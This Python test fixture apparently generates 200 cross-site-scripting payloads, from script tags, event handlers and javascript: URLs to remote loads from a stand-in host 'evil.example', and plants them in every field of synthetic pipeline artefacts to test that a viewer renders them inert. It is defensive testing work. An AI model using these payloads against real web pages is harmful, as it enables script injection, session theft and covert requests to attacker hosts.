"200 texts that would run a script or ask another machine for something, if anything that shows them let them."
import itertools

RUN = '__ran(1)'                      # a function of the browser of the tests, see browser.Browser
AWAY = 'https://evil.example/x'       # a machine that nobody may ask

_SCRIPTS = [
    '<script>{run}</script>', '<ScRiPt>{run}</sCrIpT>', '<script src={away}></script>', '<script type=module src={away}></script>', '<script\x0c>{run}</script>',
    '<img src=x onerror={run}>', '<img src=x onerror="{run}"//', '<img/src=x/onerror={run}>', '<svg onload={run}>', '<svg/onload={run}>',
    '<svg><script>{run}</script></svg>', '<svg><animate onbegin={run} attributeName=x dur=1s>', '<svg><set onbegin={run} attributeName=x>', '<math><mtext><img src=x onerror={run}>',
    '<body onload={run}>', '<iframe src="javascript:parent.{run}"></iframe>', '<iframe srcdoc="<script>parent.{run}</script>"></iframe>', '<object data="javascript:{run}"></object>',
    '<embed src={away}>', '<input autofocus onfocus={run}>', '<select autofocus onfocus={run}>', '<textarea autofocus onfocus={run}></textarea>', '<details open ontoggle={run}>x</details>',
    '<video src=x onerror={run}></video>', '<audio src=x onerror={run}></audio>', '<video poster={away}></video>', '<marquee onstart={run}>x</marquee>', '<style>@import "{away}";</style>',
    '<style>*{{background:url({away})}}</style>', '<link rel=stylesheet href={away}>', '<link rel=preload as=image href={away}>', '<img src={away}>', '<img srcset="{away} 1x">',
    '<picture><source srcset={away}><img></picture>', '<div style="background:url({away})">x</div>', '<div style="width:expression({run})">x</div>', '<table background={away}><td>x</table>',
    '<meta http-equiv=refresh content="0;url={away}">', '<base href={away}>', '<form action={away}><button autofocus>x</button></form>', '<a href="javascript:{run}">x</a>',
    '<svg><image href={away}></image></svg>', '<svg><use href={away}#x></use></svg>', '<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>', '<template><script>{run}</script></template>',
    '<noscript><img src=x onerror={run}></noscript>', '<xmp><img src=x onerror={run}></xmp>', '<div data-am="doc 0" onclick={run} onmouseover={run}>x</div>', '<portal src={away}>',
    '<p style="list-style:url({away})">x</p>']
_WAYS_OUT = ['{x}', '"></span>{x}', "'></title></style></textarea>{x}", '</pre></td></tr></table></svg>{x}<!--']      # out of text, attributes, and elements
TEXTS = [way.format(x=script.format(run=RUN, away=AWAY)) for script,way in itertools.product(_SCRIPTS, _WAYS_OUT)]
assert len(TEXTS) == len({*TEXTS}) == 200


def documents(folder, ids=TEXTS):
    "A clean artefact whose 200 documents have such a text as text, id, file, rule and source; and clusters of copies of them."
    import pyarrow as pa
    import pyarrow.parquet as pq

    from andromeda.core import build
    failed = pa.list_(pa.struct([('rule', pa.string()), ('value', pa.float64()), ('threshold', pa.float64())]))
    rules = [dict(name=TEXTS[5], signal='bytes', least=10., most=None, origin=TEXTS[9]), dict(name='short', signal='bytes', least=60., most=None, origin='')]
    def make(out):
        (out/'part-0').mkdir()
        n = len(TEXTS)
        t = pa.table(dict(id=ids, source=[TEXTS[3]]*n, file=TEXTS[::-1], row=list(range(n)), group=TEXTS, text=[f'{t} and more \u202e\u200b words' for t in TEXTS], meta=['{}']*n,
                          bytes=pa.array([len(t) for t in TEXTS], pa.float32()), quarantined=[TEXTS[1] if i == 7 else '' for i in range(n)], spared=[False]*n,
                          failed=pa.array([[dict(rule=TEXTS[5], value=1., threshold=10.)] if i % 3 == 0 else [] for i in range(n)], failed),
                          cuts=pa.array([[0, 5] if i % 5 == 0 else [] for i in range(n)], pa.list_(pa.int64()))))
        pq.write_table(t, out/'part-0'/'documents.parquet', row_group_size=50)
        return dict(read=n)
    cleaned = build(folder/'clean', made_by='clean', version=0, config=dict(rules=rules, own={}), make=make)
    def copies(out):
        (out/'part-0').mkdir()
        row = dict(source=TEXTS[3], file=TEXTS[20], row=1, cluster=TEXTS[0])
        rows = [row | dict(id=TEXTS[0], twin='', similarity=1.)] + [row | dict(id=t, twin=TEXTS[0], similarity=.9) for t in TEXTS[1:6]]
        pq.write_table(pa.Table.from_pylist(rows), out/'part-0'/'clusters.parquet')
        ledger = [dict(id=t, source=TEXTS[3], file='f', row=1, stage='dedup', rule=TEXTS[30], value='', threshold='') for t in TEXTS[1:6]]
        pq.write_table(pa.Table.from_pylist(ledger), out/'part-0'/'ledger.parquet')
        return dict(read=6)
    return {TEXTS[3]: cleaned}, build(folder/'dedup', made_by='dedup', version=0, config=dict(tiers={}), make=copies)


def run(folder):
    "A run that read those documents, with such a text for every source, stage, sample, alarm and message; a name of a file, without a slash, for its folder."
    import json
    import time

    from andromeda.core import write_json
    from andromeda.runs import create_run
    from andromeda.shards import build_shards
    from andromeda.stages import Corpus, Recipe, Stage
    from andromeda.tokenizer import build_tokenizer
    ids = [f'<svg x={i}>' for i in range(len(TEXTS))]       # the id of a document that is trained on has 16 characters at most
    cleaned = documents(folder, ids)[0][TEXTS[3]]
    read = [dict(id=i, group=t, text=f'{t} and more words', source=TEXTS[3], file=t, row=n) for n,(i,t) in enumerate(zip(ids, TEXTS))]
    tokenizer = build_tokenizer(folder/'tokenizer', TEXTS, 400, {})
    shards = build_shards(lambda: read, folder/'shards', tokenizer, dict(clean=cleaned))
    stages = tuple(Stage(name=TEXTS[n], tier='high', tokens=200*16*8, peak_lr=1e-3) for n in (40, 60))
    recipe = Recipe(name='r', model='mpt-tiny', corpus=Corpus(sources=(TEXTS[3],), vocab=400), length=16, batch=8, stages=stages, max_epochs=1e9, prompts=(TEXTS[50],))
    made = create_run(folder/'runs'/'made', recipe, {TEXTS[3]: 'high'}, {TEXTS[3]: shards}, tokenizer)
    named = made.folder.rename(made.folder.with_name(next(t for t in TEXTS if t.startswith('<img') and '/' not in t)))
    made = type(made)(named)
    lines = lambda rows: ''.join(json.dumps(r)+'\n' for r in rows)
    metrics = [dict(step=i, stage=TEXTS[40 if i <= 200 else 60], tokens=128*i, loss=3-i/1000, lr=1e-3, gradient_norm=1., seconds=.01, data_seconds=0.) for i in range(1, 301)]
    (named/'metrics.jsonl').write_text(lines(metrics))
    (named/'samples.jsonl').write_text(lines(dict(step=s, stage=TEXTS[40], prompt=t, text=t) for s in (200, 300) for t in TEXTS))
    (named/'evals.jsonl').write_text(lines(dict(step=s, stage=TEXTS[40], tokens=128*s, validation={t: dict(bits_per_byte=2., bytes=100) for t in TEXTS[:40]}) for s in (200, 300)))
    write_json(named/'status.json', dict(state='failed', step=300, steps=400, stage=TEXTS[60], loss=2.7, lr=1e-3, saved=TEXTS[70], updated=time.time(), alarm=TEXTS[80], message=TEXTS[90]))
    return made
